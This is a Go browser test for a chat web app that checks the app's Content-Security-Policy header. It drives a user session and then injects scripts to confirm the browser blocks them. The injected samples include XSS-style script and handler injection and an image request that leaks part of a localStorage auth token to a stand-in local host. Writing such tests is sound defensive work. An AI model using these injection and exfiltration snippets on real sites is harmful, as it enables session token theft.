package browser_test

import (
	"net/http"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/weft-im/weft/weftest"
)

// watched opens a page that notes whatever its policy forbids it, from its first script on.
func watched(w *window, url string) {
	w.t.Helper()
	note := `window.forbidden = []; addEventListener('securitypolicyviolation', e => window.forbidden.push(e.violatedDirective + ': ' + (e.blockedURI || 'inline')))`
	if _, err := chromedp.Call(w.ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: note}); err != nil {
		w.t.Fatal(err)
	}
	w.do("open the page", chromedp.Navigate(url))
}

// All that the page does it may do by its own policy, which lets it do nothing else.
func TestThePagesPolicy(t *testing.T) {
	p := weftest.StartWeft(t, t.TempDir(), "")
	resp, err := http.Get(p.URL)
	if err != nil {
		t.Fatal(err)
	}
	_ = resp.Body.Close()
	policy := resp.Header.Get("Content-Security-Policy")
	host := strings.TrimPrefix(p.URL, "http://")
	if !strings.Contains(policy, "default-src 'self'") || !strings.Contains(policy, "connect-src 'self' ws://"+host+" wss://"+host+";") || strings.Contains(policy, "unsafe") {
		t.Errorf("the policy is %q", policy)
	}

	browser := startBrowser(t)
	bob := open(t, browser, "bob", p.URL, desktop)
	bob.signIn(bobsPhone, "Bob")
	ann := open(t, browser, "ann", "about:blank", desktop)
	watched(ann, p.URL)
	ann.signIn(annsPhone, "Ann")
	ann.find(bobsPhone)
	ann.send("see https://weft.example/ and more")
	ann.state("see https://weft.example/ and more", "delivered")
	ann.act("and more", "quick-reaction")
	ann.click("open-info")
	ann.shows("info-panel", "Bob")
	ann.group("Hiking", bobsPhone)
	ann.shows("member-count", "2 members")
	ann.send("hello all")
	ann.state("hello all", "delivered")
	// a picture of hers, which comes back as an address of the page's own
	ann.choose("main-menu", "settings")
	ann.sees("the settings", `!!document.querySelector('[data-testid=picture-file]')`)
	later[bool](ann, `(async () => {
		const canvas = document.createElement('canvas');
		canvas.width = canvas.height = 64;
		canvas.getContext('2d').fillRect(8, 8, 32, 32);
		const file = new File([await new Promise(done => canvas.toBlob(done))], 'me.png', { type: 'image/png' });
		const chosen = new DataTransfer();
		chosen.items.add(file);
		const input = document.querySelector('[data-testid=picture-file]');
		input.files = chosen.files;
		input.dispatchEvent(new Event('change', { bubbles: true }));
		return true;
	})()`)
	ann.sees("her picture", `(i => i?.complete && i.naturalWidth > 0 && i.src.startsWith('blob:'))(document.querySelector('[data-testid=settings-panel] img.avatar'))`)
	ann.click("panel-close")
	ann.write("search", "hello")
	ann.shows("search-hit", "hello all")
	ann.press(kb.Escape)
	ann.do("reload", chromedp.Reload())
	ann.live()
	if forbidden := value[[]string](ann, `window.forbidden`); len(forbidden) > 0 {
		t.Errorf("the page tries what its policy forbids: %v", forbidden)
	}

	// what got into the page by whatever hole runs not, and takes nothing out; and such things are noticed here
	ann.expect("Content Security Policy")
	ann.expect("Refused to")
	ann.expect("violates the document's")
	for name, try := range map[string]struct{ script, directive string }{
		"a script in it":      {`document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = true' }))`, "script-src"},
		"a handler in it":     {`document.body.insertAdjacentHTML('beforeend', '<img src=/none.png onerror="window.ran = true">')`, "script-src"},
		"another's script":    {`document.body.append(Object.assign(document.createElement('script'), { src: 'http://127.0.0.1:9/x.js' }))`, "script-src"},
		"a style in it":       {`document.body.insertAdjacentHTML('beforeend', '<p style="color: red">x</p>')`, "style-src"},
		"another's picture":   {`new Image().src = 'http://127.0.0.1:9/x.png?' + encodeURIComponent(localStorage.getItem('weft.grant').slice(0, 9))`, "img-src"},
		"another server":      {`fetch('http://127.0.0.1:9/').catch(() => {})`, "connect-src"},
		"another's WebSocket": {`try { new WebSocket('ws://127.0.0.1:9/') } catch {}`, "connect-src"},
		"a frame":             {`document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://127.0.0.1:9/' }))`, "frame-src"},
	} {
		ann.expect("none.png")
		ann.do(name, chromedp.Evaluate[chromedp.Void](`window.forbidden.length = 0; `+try.script))
		ann.sees(name+" is forbidden", `window.forbidden.some(f => f.startsWith('`+try.directive+`'))`)
	}
	ann.complains("Content Security Policy")
	if value[bool](ann, `window.ran === true`) {
		t.Error("a script that was put into the page ran")
	}
}
